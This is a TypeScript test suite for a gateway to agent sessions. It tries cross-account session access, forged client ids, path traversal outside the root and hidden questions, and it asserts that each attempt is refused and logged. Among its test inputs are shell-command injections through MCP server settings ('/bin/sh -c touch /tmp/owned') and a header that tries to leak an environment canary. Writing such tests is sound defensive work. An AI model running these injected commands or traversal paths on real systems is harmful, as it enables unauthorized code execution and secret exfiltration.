// Attempts of clients that may connect to reach sessions, directories, files and questions that are not theirs.
import { strict as assert } from "node:assert";
import { dirname } from "node:path";
import type { Scope } from "../../../src/gateway/index.js";
import { type Attack, bearer, opened, type Target, url } from "./attacks.js";
import { type Frame, WireClient } from "./wire-client.js";

export const SESSION_ATTACKS: Readonly<Record<string, Attack>> = {
  "another account's sessions": {
    run: async (target, from) => {
      const owner = await opened(target, from);
      const made = await owner.request("session/new", { cwd: target.root, mcpServers: [] });
      const sessionId = String(made.result?.["sessionId"]);
      const token = await target.token({ account: "thief", scopes: ["read", "prompt", "approve", "tools"] });
      const thief = await WireClient.open(url(target), bearer(token), from);
      await thief.initialize();
      const params = { sessionId, cwd: target.root, mcpServers: [], prompt: [{ type: "text", text: "hello" }] };
      const more = {
        modeId: "auto",
        title: "mine",
        after: 0,
        questionId: "q",
        answer: "once",
        configId: "mode",
        value: "x",
      };
      const methods = ["load", "resume", "prompt", "fork", "set_mode", "set_title", "status", "set_config_option"];
      for (const method of [...methods.map((name) => `session/${name}`), ...OWN_SESSION_METHODS]) {
        const { error } = await thief.request(method, { ...params, ...more });
        assert.equal(error?.code, -32002, `${method}: ${JSON.stringify(error)}`);
      }
      // Deleting what does not exist is no error; it must not have been deleted.
      await thief.request("session/delete", { sessionId });
      const { result } = await thief.request("session/list", {});
      assert.deepEqual(result?.["sessions"], []);
      const view = await owner.request("_tenon/session/view", { sessionId });
      assert.equal(view.error, undefined);
      await Promise.all([thief.close(), owner.close()]);
    },
    logged: /"event":"connected","account":"thief"/u,
  },
  "a forged client id": {
    run: async (target, from) => {
      const victim = clientOf(
        await (await WireClient.open(url(target), bearer(await target.token()), from)).initialize(),
      );
      for (const key of [undefined, "", "x".repeat(43), victim.key.slice(1)]) {
        const forger = await WireClient.open(url(target), bearer(await target.token()), from);
        const forged = clientOf(await forger.initialize({ tenon: { client: { name: "me too", id: victim.id, key } } }));
        assert.notEqual(forged.id, victim.id);
        await forger.close();
      }
    },
    logged: /forged client id/u,
  },
  "directories outside of the root": {
    run: async (target, from) => {
      const client = await opened(target, from);
      const { root } = target;
      for (const cwd of [`${root}/out`, `${root}/..`, "/", `${root}2`, `${root}/out/../..`, `${root}/none`]) {
        const { error } = await client.request("session/new", { cwd, mcpServers: [] });
        assert.equal(error?.code, -32602, cwd);
      }
      const additionalDirectories = [`${root}/out`];
      const { error } = await client.request("session/new", { cwd: root, mcpServers: [], additionalDirectories });
      assert.equal(error?.code, -32602);
      await client.close();
    },
    logged: /"event":"connected".*"remote":"ADDRESS"/u,
  },
  "another directory for a stored session": {
    run: async (target, from) => {
      const client = await opened(target, from, ["read", "prompt", "approve", "tools"]);
      const { root, stored } = target;
      const mcpServers: never[] = [];
      for (const method of ["session/load", "session/resume", "session/fork"]) {
        for (const cwd of ["/", `${root}/out`, `${root}2`, dirname(root)]) {
          for (const sessionId of Object.values(stored)) {
            const { error } = await client.request(method, { sessionId, cwd, mcpServers });
            assert.equal(error?.code, -32602, `${method} ${cwd}: ${JSON.stringify(error)}`);
          }
        }
        if (method === "session/fork") continue; // a copy is where it is made
        const { error } = await client.request(method, { sessionId: stored.outside, cwd: root, mcpServers });
        assert.equal(error?.code, -32602, method);
      }
      const status = await client.request("session/status", { sessionId: stored.inside });
      assert.deepEqual(status.result, { status: "saved" });
      await client.close();
    },
    logged: /"event":"connected".*"remote":"ADDRESS"/u,
  },
  "files for the turn of another": {
    run: async (target, from) => {
      const local = await WireClient.open(`ws+unix:${target.socketPath}:/acp`);
      await local.initialize();
      const sessionId = await newSession(target, local);
      const far = await WireClient.open(url(target), bearer(await target.token()), from);
      const fs = { readTextFile: true, writeTextFile: true };
      await far.request("initialize", { protocolVersion: 1, clientCapabilities: { fs, terminal: true } });
      await far.request("session/load", { sessionId, cwd: target.root, mcpServers: [] });
      const isAsked = ({ method = "" }: Frame) => method.startsWith("fs/") || method.startsWith("terminal/");
      const prompt = [{ type: "text", text: `read_file path=${target.root}/note.txt` }];
      await local.request("session/prompt", { sessionId, prompt });
      assert.match(JSON.stringify(local.received), /what the disk has/u);
      assert.deepEqual(far.received.filter(isAsked), []);
      // Its own turn reads through it.
      const own = far.request("session/prompt", { sessionId, prompt });
      const { id, method } = await far.next(isAsked);
      assert.equal(method, "fs/read_text_file");
      far.web.send(JSON.stringify({ jsonrpc: "2.0", id, result: { content: "what the client has" } }));
      assert.equal((await own).error, undefined);
      await far.request("session/delete", { sessionId });
      await Promise.all([local.close(), far.close()]);
    },
    logged: /"event":"connected".*"remote":"ADDRESS"/u,
  },
  "the contents of questions, for those who may not answer them": {
    run: async (target, from) => {
      const local = await WireClient.open(`ws+unix:${target.socketPath}:/acp`);
      await local.initialize();
      const cwd = `${target.root}/project`;
      const made = await local.request("session/new", { cwd, mcpServers: [] });
      const sessionId = String(made.result?.["sessionId"]);
      const few = await opened(target, from);
      const observer = await WireClient.open(`ws+unix:${target.socketPath}:/acp`);
      await observer.initialize({ tenon: { role: "observer" } });
      await few.request("_tenon/gateway/watch");
      for (const client of [few, observer]) {
        await client.request("session/load", {
          sessionId,
          cwd,
          mcpServers: [],
          _meta: { tenon: { role: "observer" } },
        });
      }
      const prompted = local.request("session/prompt", { sessionId, prompt: [{ type: "text", text: "hello" }] });
      const question = await local.next(({ id, method }) => id !== undefined && method !== undefined);
      assert.match(JSON.stringify(question), /question-canary/u);
      const answer = { sessionId, questionId: questionIn(question), answer: "yes" };
      for (const client of [few, observer]) {
        for (const method of ["_tenon/session/view", "_tenon/session/records", "_tenon/mcp/status", "session/list"])
          assert.equal((await client.request(method, { sessionId })).error, undefined, method);
        assert.equal((await client.request("_tenon/question/answer", answer)).error?.code, -32003);
        const seen = client.received.filter(({ id, method }) => id !== undefined && method !== undefined);
        assert.deepEqual(seen, []);
      }
      const late = await opened(target, from, ["read"]);
      await late.request("session/load", { sessionId, cwd, mcpServers: [] });
      await local.request("_tenon/question/answer", { ...answer, answer: "no" });
      await prompted;
      for (const client of [few, observer, late]) {
        assert.ok(!JSON.stringify(client.received).includes("question-canary"), "a question is told");
        await client.close();
      }
      await local.request("session/delete", { sessionId });
      await local.close();
    },
    logged: /"event":"denied".*"method":"observer: answer questions"/u,
  },
  "a program by changing the servers of a session": {
    run: async (target, from) => {
      const client = await opened(target, from, ["read", "prompt", "tools"]);
      const sessionId = await newSession(target, client);
      const mcpServers = [{ name: "s", command: "/bin/sh", args: ["-c", "touch /tmp/owned"], env: [] }];
      const { result } = await client.request("_tenon/session/set_mcp_servers", { sessionId, mcpServers });
      assert.match(JSON.stringify(result), /"state":"failed".*may not start programs here/u);
      const again = await client.request("session/load", { sessionId, cwd: target.root, mcpServers });
      assert.equal(again.error, undefined);
      await client.request("session/delete", { sessionId });
      await client.close();
    },
    logged: /"event":"connected".*"remote":"ADDRESS"/u,
  },
  "more than a prompt by commands and settings": {
    run: async (target, from) => {
      const few = ["read", "prompt"] as const;
      const all = ["read", "prompt", "approve", "tools"] as const;
      for (const [scopes, words, refusal] of [
        [few, "/mcp add y -- /bin/sh -c 'touch /tmp/owned'", /needs the scope \\"tools\\"/u],
        [few, '/mcp add x https://127.0.0.1/ --header "K: ${GATEWAY_CANARY}"', /needs the scope \\"tools\\"/u],
        [few, "/permissions allow s", /needs the scope \\"approve\\"/u],
        [all, "/mcp add y -- /bin/sh -c 'touch /tmp/owned'", /may not start programs here/u],
        [all, '/mcp add x https://example.com/ --header "K: ${GATEWAY_CANARY}"', /may not use variables/u],
        [all, "/mcp add x http://127.0.0.1:1/", /public https addresses only/u],
      ] as const) {
        const client = await opened(target, from, scopes);
        const sessionId = await newSession(target, client);
        await client.request("session/prompt", { sessionId, prompt: [{ type: "text", text: words }] });
        assert.match(JSON.stringify(client.received), refusal, words);
        if (scopes === few) {
          const mode = await client.request("session/set_mode", { sessionId, modeId: "auto-edit" });
          const option = { sessionId, configId: "mode", value: "auto-edit" };
          const set = await client.request("session/set_config_option", option);
          for (const { error } of [mode, set]) {
            assert.equal(error?.code, -32003);
            assert.match(String(error?.message), /"approve"/u);
          }
        }
        await client.request("session/delete", { sessionId });
        await client.close();
      }
    },
    logged: /"method":"\/mcp add"[^]*"method":"set mode"[^]*"method":"\/permissions allow"/u,
  },
  "each method with each scope": {
    run: async (target, from) => {
      for (const scope of SCOPES) {
        const client = await opened(target, from, ["read", scope]);
        for (const [method, needed] of Object.entries(METHOD_SCOPES)) {
          if (scope === "admin" && method === "_tenon/gateway/stop") continue;
          const { error } = await client.request(method, { sessionId: "none", action: "list" });
          const isDenied = error?.code === -32003;
          assert.equal(
            isDenied,
            needed !== "read" && needed !== scope,
            `${method} with ${scope}: ${JSON.stringify(error)}`,
          );
          if (isDenied) assert.match(String(error?.message), new RegExp(`"${needed}"`, "u"));
        }
        await client.close();
      }
    },
    logged: /"event":"denied".*"method":"_tenon\/gateway\/stop"/u,
  },
};

function questionIn({ params }: Frame): string {
  const [, id = ""] = /"questionId":"([^"]+)"/u.exec(JSON.stringify(params)) ?? [];
  return id;
}

async function newSession({ root }: Target, client: WireClient): Promise<string> {
  const { result } = await client.request("session/new", { cwd: root, mcpServers: [] });
  return String(result?.["sessionId"]);
}

const SCOPES: readonly Scope[] = ["read", "prompt", "approve", "tools", "admin"];

const OWN_SESSION_METHODS = [
  ...["_tenon/session/view", "_tenon/session/records", "_tenon/question/answer", "_tenon/session/set_mcp_servers"],
  ...["_tenon/mcp/status", "_tenon/session/set_tools", "_tenon/session/tools", "_tenon/session/call_tool"],
  ...["_tenon/mcp/restart", "_tenon/mcp/login"],
];

const METHOD_SCOPES: Readonly<Record<string, Scope>> = {
  "session/list": "read",
  "session/load": "read",
  "session/resume": "read",
  "session/close": "read",
  "session/status": "read",
  "_tenon/session/view": "read",
  "_tenon/session/records": "read",
  "_tenon/gateway/status": "read",
  "_tenon/gateway/watch": "read",
  "session/new": "prompt",
  "session/prompt": "prompt",
  "session/fork": "prompt",
  "session/set_mode": "prompt",
  "session/set_config_option": "prompt",
  "session/set_title": "prompt",
  "session/delete": "prompt",
  "_tenon/question/answer": "approve",
  "_tenon/session/set_mcp_servers": "tools",
  "_tenon/session/set_tools": "tools",
  "_tenon/mcp/restart": "tools",
  "_tenon/mcp/login": "tools",
  "_tenon/gateway/tokens": "admin",
  "_tenon/gateway/page": "admin",
  "_tenon/gateway/stop": "admin",
  "_tenon/invented": "admin",
};

function clientOf({ result }: Frame): { readonly id: string; readonly key: string } {
  const found = JSON.stringify(result).match(/"client":\{"id":"([^"]+)","key":"([^"]+)"\}/u);
  assert.ok(found?.[1] && found[2], `no client in ${JSON.stringify(result)}`);
  return { id: found[1], key: found[2] };
}
